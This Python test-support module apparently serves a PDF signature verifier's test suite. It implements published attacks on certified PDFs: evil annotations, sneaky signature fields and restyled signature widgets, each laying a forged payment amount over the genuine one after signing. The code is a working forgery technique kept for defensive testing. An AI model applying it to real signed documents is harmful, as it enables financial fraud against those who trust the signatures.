"""Evil annotations and sneaky signatures: attacks on certified and approved PDFs.

From Rohlmann, Mladenov, Mainka, Schwenk, "Breaking the Specification: PDF
Certification", IEEE S&P 2021, the sequel to Mladenov et al., "1 Trillion Dollar Refund:
How to Spoof PDF Signatures", ACM CCS 2019, and Mainka et al., "Shadow Attacks", NDSS
2021: an update made of things DocMDP may permit (an annotation, a signature field, a
restyled widget) whose appearance lays the forged amount over the genuine one.

Example::

    forged = evil_annotation(signed_base())   # a FreeText cover over the amount
"""

from __future__ import annotations

import io

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

from tests.support.attacks._base import _page_ref_in, written


def _overlay_appearance(writer: IncrementalPdfFileWriter) -> generic.IndirectObject:
    """A form XObject: white box, forged amount (the cover an attacker lays on top)."""
    font = writer.root["/Pages"]["/Kids"][0]["/Resources"]["/Font"].raw_get("/F1")
    ap = generic.StreamObject({
        generic.NameObject("/Type"): generic.NameObject("/XObject"),
        generic.NameObject("/Subtype"): generic.NameObject("/Form"),
        generic.NameObject("/BBox"): generic.ArrayObject(
            [generic.NumberObject(v) for v in (0, 0, 360, 32)]),
        generic.NameObject("/Resources"): generic.DictionaryObject({
            generic.NameObject("/Font"): generic.DictionaryObject(
                {generic.NameObject("/F1"): font})}),
    }, stream_data=b"1 1 1 rg 0 0 360 32 re f 0 g BT /F1 12 Tf 12 12 Td "
                   b"(Chi tra so tien: 9.000.000 VND) Tj ET")
    return writer.add_object(ap)


def _cover_rect() -> generic.ArrayObject:
    return generic.ArrayObject([generic.NumberObject(v) for v in (60, 728, 420, 760)])


def evil_annotation(signed: bytes) -> bytes:
    """Evil annotation: a FreeText annotation added after signing, its appearance a
    white box with the forged amount laid exactly over the genuine one. Annotations
    are not among the updates signsvc allows (verdicts.ModificationLevel.ALLOWED), and
    under DocMDP P=2 ISO 32000-1 Table 254 forbids them."""
    writer = IncrementalPdfFileWriter(io.BytesIO(signed))
    page = writer.root["/Pages"]["/Kids"][0]
    annot = writer.add_object(generic.DictionaryObject({
        generic.NameObject("/Type"): generic.NameObject("/Annot"),
        generic.NameObject("/Subtype"): generic.NameObject("/FreeText"),
        generic.NameObject("/Rect"): _cover_rect(),
        generic.NameObject("/F"): generic.NumberObject(4),
        generic.NameObject("/DA"): generic.TextStringObject("/Helv 12 Tf 0 g"),
        generic.NameObject("/Contents"): generic.TextStringObject(
            "Chi tra so tien: 9.000.000 VND"),
        generic.NameObject("/AP"): generic.DictionaryObject(
            {generic.NameObject("/N"): _overlay_appearance(writer)}),
        generic.NameObject("/P"): _page_ref_in(writer),
    }))
    annots = page.get("/Annots", generic.ArrayObject())
    annots.append(annot)
    page[generic.NameObject("/Annots")] = annots
    writer.update_container(page)
    return written(writer)


def sneaky_signature_field(signed: bytes) -> bytes:
    """Sneaky signature: an empty signature field added after signing (signing is what
    DocMDP P=2 permits), whose widget appearance lays the forged amount over the
    genuine one. Nobody ever signs it."""
    writer = IncrementalPdfFileWriter(io.BytesIO(signed))
    page = writer.root["/Pages"]["/Kids"][0]
    field = writer.add_object(generic.DictionaryObject({
        generic.NameObject("/FT"): generic.NameObject("/Sig"),
        generic.NameObject("/T"): generic.TextStringObject("Signature9"),
        generic.NameObject("/Type"): generic.NameObject("/Annot"),
        generic.NameObject("/Subtype"): generic.NameObject("/Widget"),
        generic.NameObject("/Rect"): _cover_rect(),
        generic.NameObject("/F"): generic.NumberObject(4),
        generic.NameObject("/P"): _page_ref_in(writer),
        generic.NameObject("/AP"): generic.DictionaryObject(
            {generic.NameObject("/N"): _overlay_appearance(writer)}),
    }))
    page["/Annots"].append(field)
    writer.update_container(page)
    acroform = writer.root["/AcroForm"]
    acroform["/Fields"].append(field)
    writer.update_container(acroform)
    writer.update_container(writer.root["/AcroForm"]["/Fields"])
    return written(writer)


def signature_widget_restyled(signed: bytes) -> bytes:
    """The signed field's own widget moved over the amount and given an appearance
    that shows the forged amount (the signature dictionary is untouched)."""
    writer = IncrementalPdfFileWriter(io.BytesIO(signed))
    fields = writer.root["/AcroForm"]["/Fields"]
    ref = next(r for r in fields if r.get_object().get("/FT") == "/Sig")
    widget = ref.get_object()
    widget[generic.NameObject("/Rect")] = _cover_rect()
    widget[generic.NameObject("/AP")] = generic.DictionaryObject(
        {generic.NameObject("/N"): _overlay_appearance(writer)})
    writer.update_container(widget)
    return written(writer)
